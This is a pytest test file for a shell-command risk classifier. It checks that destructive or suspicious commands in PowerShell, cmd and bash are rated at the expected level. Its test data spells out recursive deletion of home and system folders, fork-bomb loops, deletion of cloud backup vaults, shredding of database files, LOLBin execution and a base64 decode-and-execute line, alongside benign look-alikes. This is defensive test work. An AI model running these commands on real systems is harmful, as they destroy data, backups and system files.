"""safety-f7: the families of blind7's misses, fixed as mechanisms (own spellings): PowerShell
functions that splat `@args`/`$args` into a cmdlet, literal variables inside double-quoted
paths, endless loops that start processes, `tar --remove-files` of a whole folder, cloud
backup data deleted, a service's data files shredded, named files of the Windows
installation deleted, LOLBins (Pcwrun, cmdl32), fsutil symlink evaluation, patterns that
are searched (data), `crictl` deletes and `gio trash --empty`."""

from __future__ import annotations

import pytest

from aintern_ls.safety import RiskLevel
from tests.safety._levels import B, C, D, M, S, level


@pytest.mark.parametrize(
    "command,expected",
    [
        ("function z { Remove-Item @args }; z -Recurse -Force ~", B),
        ("function z { Remove-Item @args }; z -Recurse -Force C:\\", B),
        ("function nuke { Remove-Item $args -Recurse -Force }; nuke $HOME", B),
        ("function rmf { Remove-Item $args[0] -Recurse -Force }; rmf C:\\Windows", B),
        ("$d = 'C:\\'; Remove-Item \"$d*\" -Recurse -Force", B),
        # look-alikes: an ordinary folder, a splat into a printing cmdlet, a string printed
        ("function z { Remove-Item @args }; z .\\build -Recurse", D),
        ("function say { Write-Output @args }; say hello world", S),
        ("$d = 'C:\\build\\out'; Remove-Item \"$d\\*\" -Recurse -Force", D),
        ("$name = 'world'; Write-Output \"hello $name\"", S),
    ],
)
def test_powershell_splatted_functions_and_interpolated_variables(
    command: str, expected: RiskLevel
) -> None:
    assert level(command, "powershell") == expected


@pytest.mark.parametrize(
    "command,shell,expected",
    [
        ("while ($true) { Start-Process powershell -WindowStyle Hidden }", "powershell", B),
        ("while (1) { saps pwsh }", "powershell", B),
        ("for (;;) { Start-Process cmd.exe }", "powershell", B),
        ("do { Start-Process powershell.exe } while ($true)", "powershell", B),
        ("for /l %i in (0,0,1) do start cmd", "cmd", B),
        ("while true; do bash & done", "bash", B),
        # look-alikes: a loop that leaves, a polling loop that sleeps and waits
        ("while ($true) { Start-Process notepad; break }", "powershell", M),
        ("while ($true) { Start-Sleep 60; Start-Process backup.exe -Wait }", "powershell", M),
        ("while true; do sleep 1; done", "bash", S),
    ],
)
def test_endless_process_spawners_are_fork_bombs(
    command: str, shell: str, expected: RiskLevel
) -> None:
    assert level(command, shell) == expected


@pytest.mark.parametrize(
    "command,shell,expected",
    [
        ("tar --remove-files -cf /dev/null .", "bash", B),
        ("tar --remove-files -czf /tmp/home.tgz ~", "bash", B),
        ("tar --remove-files -czf logs.tgz build/logs", "bash", D),
        (
            "az backup protection disable --container-name vm01 --item-name vm01 --vault-name v"
            " --resource-group rg --delete-backup-data true --yes",
            "bash",
            B,
        ),
        ("az backup vault delete --name rsv --resource-group rg --yes", "bash", B),
        (
            "aws backup delete-recovery-point --backup-vault-name v --recovery-point-arn a",
            "bash",
            B,
        ),
        ("aws --region eu-west-1 backup delete-backup-vault --backup-vault-name v", "bash", B),
        ("gcloud backup-dr backup-vaults delete v1 --location=us-central1", "bash", B),
        (
            "az backup protection disable --container-name vm01 --item-name vm01 --vault-name v"
            " --resource-group rg --delete-backup-data false --yes",
            "bash",
            C,  # backups kept but turned off: critical, as `tmutil disable` (blind4; cli8)
        ),
        ("aws backup list-backup-vaults", "bash", S),
        ("shred -n 3 -z -u /var/lib/mysql/*", "bash", C),
        ("shred -u /var/lib/postgresql/16/main/*", "bash", C),
        ("shred -u notes.txt", "bash", D),
        ("rm -rf /var/lib/docker", "bash", D),  # settled elsewhere: a plain rm stays dangerous
    ],
)
def test_archive_and_remove_backups_and_service_data(
    command: str, shell: str, expected: RiskLevel
) -> None:
    assert level(command, shell) == expected


@pytest.mark.parametrize(
    "command,shell,expected",
    [
        ("del /f /q C:\\Windows\\System32\\drivers\\etc\\hosts", "cmd", C),
        ("del %windir%\\system32\\sethc.exe", "cmd", C),
        ("Remove-Item C:\\Windows\\System32\\drivers\\etc\\hosts -Force", "powershell", C),
        ("del C:\\Windows\\Temp\\setup.log", "cmd", D),
        ("Pcwrun.exe C:\\Users\\Public\\beacon.exe", "cmd", C),
        ("cmdl32 /vpn /lan %cd%\\config", "cmd", C),
        # LOLBAS siblings: ClickOnce launcher, IE diagnostics (execute), Office XML editor
        ('Applaunch.exe /activate "https://example.org/app.application#x"', "cmd", C),
        ("iediagcmd.exe /out:c:\\test\\http://foo.cab", "cmd", C),
        ("msoxmled.exe /verb open https://example.org/p.xml", "cmd", C),
        ("msoxmled.exe notes.xml", "cmd", M),
        ("fsutil behavior set SymlinkEvaluation R2L:1 R2R:1", "cmd", C),
        ("fsutil behavior query SymlinkEvaluation", "cmd", S),
    ],
)
def test_windows_system_files_lolbins_and_symlink_evaluation(
    command: str, shell: str, expected: RiskLevel
) -> None:
    assert level(command, shell) == expected


@pytest.mark.parametrize(
    "command,shell,expected",
    [
        (
            "Select-String -Path .\\scripts\\*.ps1 -Pattern 'Invoke-Expression|FromBase64String'",
            "powershell",
            S,
        ),
        ("sls -Path *.ps1 -Pattern 'IEX|DownloadString'", "powershell", S),
        ("grep -rnE 'Invoke-Expression|FromBase64String' scripts/", "bash", S),
        ('findstr /s /i "vssadmin delete shadows" *.bat', "cmd", S),
        # the real thing stays critical: a base64 string decoded and run
        (
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('ZWNobyBoaQ==')))",
            "powershell",
            C,
        ),
        ("crictl rmi --prune", "bash", D),
        ("crictl rm -a", "bash", D),
        ("crictl images", "bash", S),
        ("gio trash --empty", "bash", D),
    ],
)
def test_searched_patterns_crictl_and_trash(command: str, shell: str, expected: RiskLevel) -> None:
    assert level(command, shell) == expected
